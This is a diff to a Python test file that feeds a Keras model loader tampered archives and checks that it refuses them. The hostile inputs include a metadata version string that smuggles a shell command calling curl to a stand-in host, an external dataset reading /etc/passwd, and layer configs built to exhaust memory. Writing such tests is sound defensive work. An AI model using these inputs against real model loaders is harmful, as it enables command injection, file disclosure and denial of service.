@@ -126,6 +126,12 @@ def _virtual(file):
     file.create_virtual_dataset(FIRST, layout)
 
 
+def _many(file):
+    group, array = file.create_group("many"), file[FIRST]
+    for number in range(10_001):
+        group[str(number)] = array
+
+
 def _not_a_number(file):
     file[FIRST][0] = np.nan
 
@@ -151,6 +157,30 @@ HOSTILE = {
         _activation(_function("keras.utils", "get_file")),
         "it asks for keras.utils.get_file",
     ),
+    "layer by a dotted name": (
+        _first_layer({"module": "keras", "class_name": "layers.TFSMLayer"}),
+        "it asks for keras.layers.TFSMLayer, and only parts of Keras itself are taken",
+    ),
+    "layer by a name dotted within": (
+        _first_layer({"module": "keras.layers", "class_name": "experimental.TFSMLayer"}),
+        "it asks for keras.layers.experimental.TFSMLayer",
+    ),
+    "setting of Keras": (
+        _activation({**_function("keras", ""), "class_name": "config.set_floatx", "config": {}}),
+        "it asks for keras.config.set_floatx",
+    ),
+    "optimizer of Keras": (
+        _first_layer({"module": "keras", "class_name": "Optimizer"}),
+        "it asks for keras.Optimizer",
+    ),
+    "function beside the layers": (
+        _activation({**_function("keras.layers", ""), "class_name": "deserialize", "config": {}}),
+        "it asks for keras.layers.deserialize",
+    ),
+    "function by a dotted name": (
+        _activation(_function("builtins", "nn.relu")),
+        "it asks for builtins.nn.relu",
+    ),
     "name for a terminal": (
         _first_layer({"module": "os\n\x1b[2J", "class_name": "system"}),
         r"it asks for os \?\[2J\.system",
@@ -164,6 +194,14 @@ HOSTILE = {
     "pickled weights": (_npz, "holds 'model.weights.npz', which has no place"),
     "assets": (_set("assets/a.txt", b"a"), "holds 'assets/a.txt', which has no place"),
     "newer Keras": (_set("metadata.json", b'{"keras_version": "99.0.0"}'), "written by Keras 99.0.0, and"),
+    "words for a shell": (
+        _set("metadata.json", b'{"keras_version": "99.0\'; curl evil.example; \'"}'),
+        "does not say which Keras wrote it",
+    ),
+    "version and a line": (
+        _set("metadata.json", b'{"keras_version": "99.0\\n"}'),
+        "does not say which Keras wrote it",
+    ),
     "no Keras": (_set("metadata.json", b"{}"), "does not say which Keras wrote it"),
     "deep config": (_set("config.json", b'{"a":' * 200_000), "nested more than 64 deep"),
     "large config": (
@@ -192,6 +230,7 @@ HOSTILE = {
         _weights(_replaced(shape=(4,), dtype="u1", external=[("/etc/passwd", 0, 4)])),
         "which lies in another file",
     ),
+    "many links": (_weights(_many), "its weights have more than 10,000 parts"),
     "virtual dataset": (_weights(_virtual), "which lies in another file"),
     "objects": (_weights(_replaced(data=["a"])), "which is no array of numbers"),
     "not a number": (_weights(_not_a_number), "layers/conv3d/vars/0 are not all finite"),
@@ -223,12 +262,74 @@ def test_keras_would_refuse_them_too(model, tmp_path, monkeypatch, name):
     entries = archives.entries(model)
     HOSTILE[name][0](entries)
     archives.write(tmp_path / "hostile.keras", entries)
-    unchecked = ModelFile((tmp_path / "hostile.keras").read_bytes(), "hostile", {}, "3")
+    config = json.loads(entries["config.json"])
+    unchecked = ModelFile((tmp_path / "hostile.keras").read_bytes(), "hostile", config, "3")
 
     with pytest.raises(InputError, match="hostile cannot be loaded as a Keras model"):
         models.opened(unchecked)
 
     assert not Path(MARKER).exists()
+
+
+def _layer(kind, **config):
+    return {"module": "keras.layers", "class_name": kind, "config": config, "registered_name": None}
+
+
+def _layers(*layers):
+    """A model of the input and these layers."""
+
+    def tamper(entries):
+        config = json.loads(entries["config.json"])
+        config["config"]["layers"][1:] = layers
+        entries["config.json"] = json.dumps(config).encode()
+
+    return tamper
+
+
+NO_MODEL = {
+    "large dense layer": (
+        _layers(_layer("Flatten"), _layer("Dense", units=4_000_000), _layer("Dense", units=1)),
+        "ask for 2,056,000,001 weights, and there are",
+    ),
+    "large padding": (
+        _layers(_layer("ZeroPadding3D", padding=800), _layer("Flatten"), _layer("Dense", units=1)),
+        "ask for 4,[0-9,]+ weights, and there are",
+    ),
+    "large repetition in a model": (
+        _layers(_layer("UpSampling3D", size=200), _layer("GlobalMaxPooling3D"), _layer("Dense", units=1)),
+        "makes 4,096,000,000 numbers of one cube",
+    ),
+    "beyond 64 bits": (_layers(_layer("Flatten"), _layer("Dense", units=10**30)), "cannot be loaded as"),
+    "a layer": (
+        _set("config.json", json.dumps(_layer("Dense", units=1)).encode()),
+        "is not a Keras model of layers. Received: a Dense",
+    ),
+}
+
+
+@pytest.mark.parametrize(("tamper", "message"), NO_MODEL.values(), ids=NO_MODEL)
+def test_a_model_too_large_for_its_file_is_refused_before_it_takes_memory(model, tmp_path, tamper, message):
+    """2 billion weights, or 4 billion voxels, of a file of some 10,000 bytes, in one line."""
+    entries = archives.entries(model)
+    tamper(entries)
+    archives.write(tmp_path / "large.keras", entries)
+
+    with pytest.raises(InputError, match=message) as refusal:
+        models.load(tmp_path / "large.keras")
+
+    assert str(refusal.value).isprintable()
+
+
+def test_what_goes_wrong_after_loading_is_one_line_too(model, monkeypatch):
+    """A model that Keras opens, and that cannot be fused."""
+
+    def fail(*_, **__):
+        raise TypeError("first\nsecond")
+
+    monkeypatch.setattr(models, "fused", fail)
+
+    with pytest.raises(InputError, match=r"cannot be loaded as a Keras model: first$"):
+        models.load(model)
 
 
 # Archives that were made to do harm
